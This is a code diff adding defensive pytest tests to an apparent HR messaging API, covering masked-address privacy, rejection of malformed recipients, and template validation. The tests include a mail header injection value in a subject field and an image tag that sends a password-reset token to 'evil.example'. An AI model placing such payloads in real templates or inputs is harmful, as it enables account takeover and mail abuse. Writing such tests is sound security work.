@@ -232,6 +232,36 @@ def test_a_campaign_reaches_each_once_and_one_bad_address_stops_nobody(admin, si
     assert admin.post("/api/v1/messaging/bulk-message", json={"recipients": [address()], "subject": "s", "body": "b"}).status_code == 200
 
 
+def test_a_campaign_does_not_tell_whose_an_address_is(house, admin, sink):
+    person = admin.post("/api/v1/candidates", json={"email": address(), "first_name": "Ada", "last_name": "King"}).json()
+    hr, told = house.client("hr"), []
+    assert hr.get(f"/api/v1/candidates/{person['id']}").json()["email"] != person["email"], "she is masked"
+    for guess in (person["email"], address()):
+        queued = campaign(hr, candidate_ids=[person["id"]], recipients=[guess], subject="s", body="b")
+        done = ended(hr, queued["job_id"])
+        listed = hr.get("/api/v1/emails", params={"campaign_id": queued["job_id"]}).json()["items"]
+        told.append((queued["queued_count"], done["total"], done["sent"], done["suppressed"], sorted(str(one["candidate_id"]) for one in listed)))
+    assert told[0] == told[1] == (2, 2, 2, 0, sorted([person["id"], "None"]))
+
+
+@pytest.mark.parametrize("fault, field", [
+    ({"recipient_email": "a@example.org,b@example.org"}, "recipient_email"), ({"recipient_email": "a;b@example.org"}, "recipient_email"),
+    ({"recipient_email": "(x)a@example.org"}, "recipient_email"), ({"subject": "a\r\nBcc: x@example.org"}, "subject"), ({"subject": "é" * 300}, "subject")])
+def test_what_can_never_go_is_refused_at_once(admin, fault, field):
+    body = {"recipient_email": address(), "subject": "s", "body": "b"}
+    answer = admin.post("/api/v1/email/send", json={**body, **fault})
+    assert answer.status_code == 422 and field in answer.text, answer.text
+    body = {**body, **fault}
+    many = admin.post("/api/v1/candidates/bulk/send-email", json={"recipients": [body.pop("recipient_email")], **body})
+    assert many.status_code == 422 and field.replace("recipient_email", "recipients") in many.text, many.text
+
+
+def test_a_template_that_would_give_a_token_away_is_refused(admin):
+    body = {"name": "R", "slug": "reset_password", "subject": "s"}
+    stolen = admin.post("/api/v1/admin/email-templates", json={**body, "body": '<img src="https://evil.example/?t={{link}}">'})
+    assert stolen.status_code == 422 and "body" in stolen.text and "href" in stolen.text, stolen.text
+
+
 def test_one_click_takes_an_address_off_campaigns_and_nothing_else(house, admin, sink):
     to = address()
     ended(admin, campaign(admin, recipients=[to], subject="s", body="b")["job_id"])
